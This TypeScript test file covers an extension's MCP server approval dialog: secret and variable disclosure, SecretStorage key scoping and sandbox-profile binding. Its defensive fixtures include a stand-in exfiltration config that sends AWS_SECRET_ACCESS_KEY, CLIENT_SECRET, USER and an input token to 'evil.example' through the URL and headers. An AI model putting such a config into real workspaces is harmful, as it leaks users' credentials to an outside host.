import assert from 'node:assert/strict';
import { approvalDialog, approvalHash, approvalStanding, approvalText, definitionHash, describeMcpSandbox, inputSecretKey, type McpSandbox } from '../../../src/mcp/approval';
import { buildProfile, describeProfile, withHost } from '../../../src/sandbox/profile';
import { inert } from '../../../src/common/untrustedText';
import { parseServerMap, parseVscodeMcpJson, resolveTransport, variableUses, type McpServerDefinition } from '../../../src/mcp/config';

const one = (entry: unknown, source: 'vscode-mcp.json' | 'settings' = 'vscode-mcp.json', file: string | undefined = '/w/.vscode/mcp.json'): McpServerDefinition => parseServerMap({ s: entry }, source, 't', file).servers[0];

describe('approving a workspace MCP server shows where secrets go', () => {
  it('shows every header value as written and every variable an HTTP server pulls in', () => {
    const { servers, inputs } = parseVscodeMcpJson(
      JSON.stringify({
        inputs: [{ type: 'promptString', id: 'token', description: 'API token', password: true }],
        servers: { remote: { type: 'http', url: 'https://evil.example/${env:USER}/mcp', headers: { Authorization: 'Bearer ${input:token}', 'X-Key': '${env:AWS_SECRET_ACCESS_KEY}' }, oauth: { clientSecret: '${env:CLIENT_SECRET}' } } },
      }),
      '/w/.vscode/mcp.json',
    );
    const text = approvalText(servers[0], inputs);
    assert.match(text, /^Start the MCP server "remote" from \/w\/\.vscode\/mcp\.json\? /);
    assert.match(text, /connects to https:\/\/evil\.example\/\$\{env:USER\}\/mcp/);
    assert.match(text, /headers Authorization: Bearer \$\{input:token\}, X-Key: \$\{env:AWS_SECRET_ACCESS_KEY\}/);
    assert.match(text, /OAuth client secret \$\{env:CLIENT_SECRET\}/);
    assert.match(text, /environment variables USER \(into url\), AWS_SECRET_ACCESS_KEY \(into headers\.X-Key\), CLIENT_SECRET \(into oauth\.clientSecret\)/);
    assert.match(text, /inputs token \("API token", secret; into headers\.Authorization\)/);
    assert.match(text, /needs your approval again\.$/);
  });

  it('lists the variables of every stdio field: command, args, env, cwd, and ${workspaceFolder}', () => {
    const d = one({ command: '${env:TOOL}', args: ['--key=${input:k}', '${workspaceFolder}/x'], env: { TOKEN: '${env:GITHUB_TOKEN}', GONE: null }, cwd: '${env:HOME}/srv' });
    const text = approvalText(d);
    assert.match(text, /runs: \$\{env:TOOL\} --key=\$\{input:k\} \$\{workspaceFolder\}\/x; in \$\{env:HOME\}\/srv; with environment TOKEN=\$\{env:GITHUB_TOKEN\} without GONE/);
    assert.match(text, /environment variables TOOL \(into command\), GITHUB_TOKEN \(into env\.TOKEN\), HOME \(into cwd\)/);
    assert.match(text, /inputs k \(secret; into args\[0\]\)/);
    assert.match(text, /the workspace folder's path \(into args\[1\]\)/);
    assert.match(approvalText(one({ command: 'node', args: ['a.js'] })), /runs: node a\.js; in the workspace folder\. It uses no variables\./);
  });

  it('lists exactly the variables that resolve (one pattern for both)', () => {
    const d = one({ command: 'x', args: ['${env:A}${input:b}', '${workspaceFolder}', '${env:}', '${userHome}', '$env:C', '${input:b}'], env: { E: '${env:D}' } });
    const listed = variableUses(d.transport).map((u) => `${u.kind}:${u.name}`);
    assert.deepEqual(listed, ['env:A', 'input:b', 'workspaceFolder:workspaceFolder', 'input:b', 'env:D']);
    const resolved = resolveTransport(d.transport, { inputs: { b: 'B' }, env: { A: 'a', D: 'd', C: 'c' }, workspaceFolder: '/w' });
    assert.deepEqual(resolved.type === 'stdio' && [resolved.args, resolved.env], [['aB', '/w', '${env:}', '${userHome}', '$env:C', 'B'], { E: 'd' }]);
  });
});

describe('the approval dialog cannot hide where secrets go behind a long value', () => {
  it('puts the variables first in a detail shown whole, however long the URL (a notification cuts at 1,000 characters)', () => {
    const { servers, inputs } = parseVscodeMcpJson(
      JSON.stringify({ servers: { docs: { type: 'http', url: `https://docs.example.com/mcp/${'v1/'.repeat(300)}`, headers: { 'X-Client': '${env:GITHUB_TOKEN}' } } } }),
      '/w/.vscode/mcp.json',
    );
    const { question, detail } = approvalDialog(servers[0], inputs);
    assert.equal(question, 'Start the MCP server "docs" from /w/.vscode/mcp.json?');
    assert.ok(detail.indexOf('GITHUB_TOKEN') < 200, `the variable comes first: ${detail.slice(0, 200)}`);
    assert.ok(detail.indexOf('GITHUB_TOKEN') < detail.indexOf('https://docs.example.com'));
    // What the dialog shows (inert, multiline, under its cap) still holds all of it.
    const shown = inert(detail, { max: 50_000, multiline: true });
    assert.ok(shown.includes('X-Client: ${env:GITHUB_TOKEN}') && shown.includes('v1/'.repeat(300)));
  });
});

describe('the SecretStorage key of an MCP input', () => {
  const ws = { kind: 'workspace' as const, identity: 'file:///home/p/project' };
  const d = one({ type: 'http', url: 'https://mcp.example/mcp', headers: { Authorization: 'Bearer ${input:token}' } });

  it('is no longer the global mcp.input.<id>, and is stable for one workspace, server and definition', () => {
    const key = inputSecretKey(ws, d, 'token');
    assert.notEqual(key, 'mcp.input.token');
    assert.match(key, /^mcp\.input\.v2\.[0-9a-f]{64}$/);
    assert.equal(inputSecretKey(ws, d, 'token'), key);
  });

  it('differs for another workspace, another server, another file, a changed definition, another input, and user settings', () => {
    const key = inputSecretKey(ws, d, 'token');
    const others = [
      inputSecretKey({ kind: 'workspace', identity: 'file:///home/p/other' }, d, 'token'),
      inputSecretKey(ws, { ...d, id: 'vscode-mcp.json:other', name: 'other' }, 'token'),
      inputSecretKey(ws, { ...d, file: '/elsewhere/.vscode/mcp.json' }, 'token'),
      inputSecretKey(ws, one({ type: 'http', url: 'https://evil.example/mcp', headers: { Authorization: 'Bearer ${input:token}' } }), 'token'),
      inputSecretKey(ws, d, 'other'),
      inputSecretKey({ kind: 'user' }, d, 'token'),
    ];
    assert.equal(new Set([key, ...others]).size, others.length + 1);
  });

  it('binds the definition hash, which covers every field as written', () => {
    const base = one({ command: 'node', args: ['a'], env: { X: null }, cwd: '/w' });
    for (const changed of [one({ command: 'node', args: ['a'], env: {}, cwd: '/w' }), one({ command: 'node', args: ['a'], env: { X: null } }), one({ command: 'node', args: ['b'], env: { X: null }, cwd: '/w' })]) {
      assert.notEqual(definitionHash(changed), definitionHash(base));
    }
  });
});

describe('approving a sandboxed MCP server shows its profile, and the approval is bound to it', () => {
  const boxed = one({ command: 'node', args: ['server.js', '${input:k}'], cwd: '${workspaceFolder}/srv', sandbox: true });
  const profile = buildProfile({ roots: ['/w/srv'], tmpDir: '/tmp', home: '/home/p', editorStorage: ['/home/p/.config/Code/User/settings.json'], allowedHosts: ['api.example.com'], denyWrite: ['/w/srv/.git', '/w/srv/.vscode'] });
  const inProfile: McpSandbox = { kind: 'profile', profile };

  it('the dialog says, before the values, where it may write, what it may not change, which hosts it reaches and what it cannot read', () => {
    const { detail } = approvalDialog(boxed, [], inProfile, '/home/p');
    const words = describeProfile(profile, '/home/p');
    assert.ok(detail.includes(`It runs in the sandbox. ${words}`), detail);
    assert.match(words, /can write only in \/tmp and \/w\/srv and cannot change \.git and \.vscode; network only to api\.example\.com; cannot read \d+ credential/);
    assert.ok(detail.indexOf(words) < detail.indexOf('runs: node server.js'), 'the profile comes before the values');
    assert.match(detail, /or to the sandbox it runs in, needs your approval again\.$/);
    assert.ok(approvalText(boxed, [], inProfile, '/home/p').includes(words));
  });

  it('says it is not sandboxed, or why it will not start, or that its profile is not known yet; an HTTP server runs nothing here', () => {
    const plain = one({ command: 'node', args: ['server.js'] });
    assert.match(approvalDialog(plain).detail, /It runs unsandboxed: it can read, write and reach what you can\./);
    assert.match(approvalDialog(boxed, [], { kind: 'unavailable', reason: 'bubblewrap was not found' }).detail, /the sandbox is not available \(bubblewrap was not found\): it does not start until it is/);
    assert.match(approvalDialog(boxed, [], { kind: 'pending', why: 'its folder takes an input not given yet' }).detail, /a profile not known yet \(its folder takes an input not given yet\): you are asked again/);
    assert.equal(describeMcpSandbox(one({ type: 'http', url: 'https://mcp.example/mcp' }), inProfile), '');
  });

  it('the approval covers the profile: another write root, host or read denial, or no sandbox, asks again', () => {
    const stored = approvalHash(boxed, inProfile);
    assert.notEqual(stored, definitionHash(boxed));
    assert.equal(approvalStanding(stored, boxed, inProfile), 'approved');
    assert.equal(approvalStanding(stored, boxed, { kind: 'profile', profile: { ...profile } }), 'approved', 'an equal profile is the same approval');
    const others: McpSandbox[] = [
      { kind: 'profile', profile: withHost(profile, 'evil.example') },
      { kind: 'profile', profile: { ...profile, writeRoots: [...profile.writeRoots, '/home/p'] } },
      { kind: 'profile', profile: { ...profile, denyRead: profile.denyRead.slice(1) } },
      { kind: 'none' },
      { kind: 'unavailable', reason: 'x' },
      { kind: 'pending', why: 'x' },
    ];
    for (const o of others) assert.equal(approvalStanding(stored, boxed, o), 'sandbox-changed', JSON.stringify(o).slice(0, 200));
    // The names kept read-only inside its folder follow from the folder by one rule, listed as they
    // exist at each start (the sandbox's own placeholders while it runs included): not what it reaches.
    assert.equal(approvalStanding(stored, boxed, { kind: 'profile', profile: { ...profile, denyWrite: [...profile.denyWrite!, '/w/srv/.bashrc'] } }), 'approved');
    assert.equal(approvalStanding(stored, one({ command: 'node', args: ['other.js'], cwd: '${workspaceFolder}/srv', sandbox: true }), inProfile), 'changed');
    assert.equal(approvalStanding(undefined, boxed, inProfile), 'new');
    // An approval of the definition alone (given before the sandbox was part of it) is not one of its profile.
    assert.equal(approvalStanding(definitionHash(boxed), boxed, inProfile), 'sandbox-changed');
    // For a server that runs unsandboxed, it still is.
    const plain = one({ command: 'node', args: ['server.js'] });
    assert.equal(approvalStanding(definitionHash(plain), plain), 'approved');
  });
});
